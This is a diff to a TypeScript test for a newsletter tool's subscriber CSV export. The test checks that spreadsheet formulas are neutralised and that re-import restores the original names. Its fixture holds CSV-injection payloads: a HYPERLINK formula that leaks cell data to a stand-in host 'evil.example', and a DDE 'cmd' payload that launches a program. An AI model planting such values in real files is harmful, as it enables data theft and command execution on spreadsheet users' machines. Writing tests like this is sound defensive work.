@@ -2,6 +2,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
+import { parse } from 'csv-parse/sync';
 import { normalizeAddress } from '../src/subscribers/address.js';
 import { parseSubscriberCsv } from '../src/subscribers/csv.js';
 import { MIGRATIONS } from '../src/subscribers/migrations.js';
@@ -147,6 +148,44 @@ test('bulletin subscribers import, add, remove, list and export from the command
     expect(exported[0]).toBe('email,name,list,status,consent_at,consent_source');
     expect(exported.slice(1).map((l) => l.split(',').slice(0, 4).join(','))).toEqual(['a@example.org,Ann,weekly,unsubscribed', 'b@example.org,Bo,weekly,subscribed', 'c@example.org,Cy,weekly,subscribed']);
     expect(exported[1]).toMatch(/,cli$/);
+  } finally {
+    site.remove();
+  }
+}, 60_000);
+
+test('export neutralises spreadsheet formulas (OWASP CSV injection), and importing the export gives the names back', async () => {
+  const site = tempSite();
+  try {
+    const hostile: [string, string][] = [
+      ['f1@example.org', '=HYPERLINK("https://evil.example/?"&A1,"Click for your prize")'],
+      ['f2@example.org', '+1+cmd|\' /C calc\'!A0'],
+      ['f3@example.org', '-2+3'],
+      ['f4@example.org', '@SUM(1,2)'],
+      ['f5@example.org', '＝1+1'],
+      ['f6@example.org', "O'Brien, Ann"],
+      ['-news@example.org', 'Addresses too'],
+    ];
+    for (const [email, name] of hostile) expect(bulletin(['subscribers', 'add', '--list', 'weekly', '--name', name, '--', email], site.root).status).toBe(0);
+    const exported = bulletin(['subscribers', 'export', '--list', 'weekly'], site.root);
+    expect(exported.status).toBe(0);
+    const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
+    const names = new Map(rows.map((r) => [r.email, r.name]));
+    // What a spreadsheet stores as text: a leading apostrophe, which Excel and LibreOffice hide.
+    for (const [email, name] of hostile.slice(0, 5)) expect([email, names.get(email)]).toEqual([email, `'${name}`]);
+    expect(names.get("'-news@example.org")).toBe('Addresses too');
+    expect(names.get('f6@example.org')).toBe("O'Brien, Ann");
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+
+    const file = join(site.root, 'exported.csv');
+    writeFileSync(file, exported.stdout);
+    expect(bulletin(['subscribers', 'import', file, '--list', 'leaders'], site.root).status).toBe(0);
+    const store = new SqliteSubscriberStore(join(site.root, '.bulletin', 'bulletin.db'));
+    try {
+      const imported = new Map((await all(store.subscribers('leaders'))).map((r) => [r.email, r.name]));
+      expect(Object.fromEntries(imported)).toEqual(Object.fromEntries(hostile));
+    } finally {
+      await store.close();
+    }
   } finally {
     site.remove();
   }
